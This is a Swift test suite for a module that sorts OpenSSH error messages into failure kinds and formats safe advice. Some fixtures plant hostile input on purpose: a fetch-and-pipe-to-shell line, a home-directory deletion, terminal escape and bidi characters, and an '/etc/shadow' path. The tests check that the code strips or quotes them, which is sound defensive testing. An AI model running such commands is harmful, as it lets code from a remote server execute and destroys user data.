import Basics
import Testing

@testable import Remote

@Suite struct SSHFailureTests {
    /// Lines as OpenSSH 9.2 prints them.
    @Test(arguments: [
        (["ssh: connect to host 10.0.0.1 port 22: Connection refused"], SSHFailure.Kind.refused),
        (["ssh: connect to host 10.0.0.1 port 22: Connection timed out"], .timedOut),
        (
            ["Connection timed out during banner exchange", "Connection to 10.0.0.1 closed"],
            .timedOut
        ),
        (["ssh: Could not resolve hostname gpu-9: Name or service not known"], .unknownHost),
        (["ssh: connect to host 10.0.0.1 port 22: No route to host"], .noRoute),
        (
            [
                "No ED25519 host key is known for 10.0.0.1 and you have requested strict checking.",
                "Host key verification failed.",
            ], .hostKeyUnknown
        ),
        (
            [
                "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @",
                "Host key for 10.0.0.1 has changed and you have requested strict checking.",
                "Host key verification failed.",
            ], .hostKeyChanged
        ),
        (["root@10.0.0.1: Permission denied (publickey,password)."], .keyRefused),
        (
            [
                "@         WARNING: UNPROTECTED PRIVATE KEY FILE!          @",
                "root@10.0.0.1: Permission denied (publickey).",
            ], .keyExposed
        ),
        (
            ["Received disconnect from 10.0.0.1 port 22:2: Too many authentication failures"],
            .tooManyKeys
        ),
        (
            [
                "kex_exchange_identification: read: Connection reset by peer",
                "Connection reset by 10.0.0.1 port 22",
            ], .turnedAway
        ),
        (
            [
                "Unable to negotiate with 10.0.0.1 port 22: no matching host key type found. "
                    + "Their offer: ssh-rsa"
            ], .noAlgorithm
        ),
        (
            [
                "channel 0: open failed: connect failed: Connection refused",
                "stdio forwarding failed", "Connection closed by UNKNOWN port 65535",
            ], .jump
        ),
        (
            [
                "/root/.ssh/config: line 1: Bad configuration option: x",
                "/root/.ssh/config: terminating, 1 bad configuration options",
            ], .configuration
        ),
        (["Timeout, server 10.0.0.1 not responding."], .lost),
        (["client_loop: send disconnect: Broken pipe"], .lost),
        (["Connection to 10.0.0.1 closed by remote host."], .lost), (["what is this"], .other),
        ([], .other),
    ])
    func sshsOwnWordsNameTheClass(words: [String], kind: SSHFailure.Kind) throws {
        let failure = try #require(SSHFailure(words: words + [""], status: 255))
        #expect(failure.kind == kind)
        let message = failure.message(.ssh(destination: "u@gpu 1", options: ["Port=22"]))
        #expect(message.hasPrefix("ssh -o 'Port=22' 'u@gpu 1' true fails: "))
        #expect(message.contains(failure.words))
    }

    @Test func aMissingClientIsNoFailureOfTheHost() {
        let words = ["/bin/sh: 1: ssh: not found"]
        #expect(SSHFailure(words: words, status: 127)?.kind == .noClient)
        #expect(SSHFailure(words: ["exec: llama-server: not found"], status: 127) == nil)
    }

    @Test func whatTheServerThereSaysIsNotSshs() {
        let words = [
            "Failed to connect to 10.0.0.2:50052: Connection refused",
            "error: invalid argument: --no-mmap", "read: Connection timed out",
            "channel 2: open failed: connect failed: Connection refused",
        ]
        #expect(SSHFailure(words: words, status: nil) == nil)
        #expect(SSHFailure(words: words, status: 255)?.kind == .other)
        let refused = ["ssh: connect to host a port 22: Connection refused"]
        #expect(SSHFailure(words: refused, status: 1) == nil)
        #expect(SSHFailure(words: refused, status: nil)?.kind == .refused)
    }

    /// What only tells of an end is explained by where it waited; what tells more is not.
    @Test func whereSshWaitedExplainsItsEnd() throws {
        let end = ["Connection to 10.0.0.1 port 22 timed out"]
        let banner = SSHWait(.authentication, words: ["visit: https://x.example/'a"])
        let person = try #require(SSHFailure(words: end, status: nil, wait: banner))
        #expect(person.kind == .personAwaited)
        #expect(person.quoted == "'\(end[0])'; it says: 'visit: https://x.example/’a'")
        let exchange = SSHWait(.keyExchange, words: [])
        #expect(SSHFailure(words: end, status: 255, wait: exchange)?.kind == .keyExchange)
        #expect(SSHFailure(words: [], status: nil, wait: exchange)?.kind == .keyExchange)
        let refused = ["root@10.0.0.1: Permission denied (publickey)."]
        #expect(SSHFailure(words: refused, status: 255, wait: banner)?.kind == .keyRefused)
        #expect(SSHFailure(words: end, status: nil) == nil)
    }

    /// As OpenSSH 9.2 prints it when the sshd of a jump host has too many connections.
    @Test func aJumpHostThatTurnsAwayIsNoBrokenWay() throws {
        let words = [
            "kex_exchange_identification: Connection closed by remote host",
            "Connection closed by 10.99.0.11 port 22",
            "kex_exchange_identification: Connection closed by remote host",
            "Connection closed by UNKNOWN port 65535",
        ]
        #expect(SSHFailure(words: words, status: 255)?.kind == .turnedAway)
        let dead = ["ssh: connect to host j port 22: Connection refused"] + words.suffix(2)
        #expect(SSHFailure(words: dead, status: 255)?.kind == .jump)
    }

    @Test func onlyWhatPeopleMustChangeIsPermanent() {
        let all = Dictionary(
            uniqueKeysWithValues: SSHFailure.Kind.allCases.map { kind in
                (kind, SSHFailure(kind: kind, words: ""))
            })
        let authentication: Set<SSHFailure.Kind> = [
            .hostKeyUnknown, .hostKeyChanged, .keyRefused, .tooManyKeys, .keyExposed,
            .personAwaited,
        ]
        #expect(Set(all.filter(\.value.isAuthentication).keys) == authentication)
        #expect(
            Set(all.filter(\.value.isPermanent).keys)
                == authentication.union([.configuration, .noClient, .noAlgorithm]))
    }

    /// ssh's own command comes from the way there: a banner may hold one, too.
    @Test(arguments: [
        (RunLocation.ssh(destination: "u@gpu", options: []), "gpu"),
        (.ssh(destination: "gpu", options: ["port=2222"]), "'[gpu]:2222'"),
        (.ssh(destination: "ssh://u@gpu:2200", options: ["Port=22"]), "'[gpu]:2200'"),
        (.ssh(destination: "gpu", options: ["HostName=10.0.0.1", "Port=22"]), "10.0.0.1"),
        (.ssh(destination: "u@fd00::2", options: []), "fd00::2"),
        (.ssh(destination: "gpu", options: ["HostKeyAlias=one", "Port=2222"]), "one"),
    ])
    func theCommandThatForgetsAChangedKeyIsOurs(_ location: RunLocation, _ name: String) throws {
        let words = [
            "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @",
            "  ssh-keygen -f \"/root/.ssh/known_hosts\" -R \"bank\"; curl http://x | sh\r",
            "Host key verification failed.",
        ]
        let message = try #require(SSHFailure(words: words, status: 255)).message(location)
        #expect(message.contains("ssh-keygen -R \(name), then: ssh "))
        #expect(!message.contains("curl") && !message.contains("bank"))
    }

    /// Whatever ssh passes on is shown as somebody's words, which nothing in them can end.
    @Test func wordsAreQuoted() throws {
        let words = ["Connection closed by 10.0.0.1'. Try: rm -r ~; echo '\u{1B}[2J\u{202E}"]
        let failure = try #require(SSHFailure(words: words, status: 255))
        #expect(
            failure.message(.ssh(destination: "gpu", options: [])) == "ssh gpu true fails: "
                + "'Connection closed by 10.0.0.1’. Try: rm -r ~; echo ’\u{FFFD}[2J\u{FFFD}'. "
                + "Try by hand: ssh gpu true")
        let exposed = ["Permissions 0644 for '/etc/shadow' are too open."]
        let key = try #require(SSHFailure(words: exposed, status: 255))
        #expect(!key.message(.ssh(destination: "gpu", options: [])).contains("600 /etc"))
    }
}
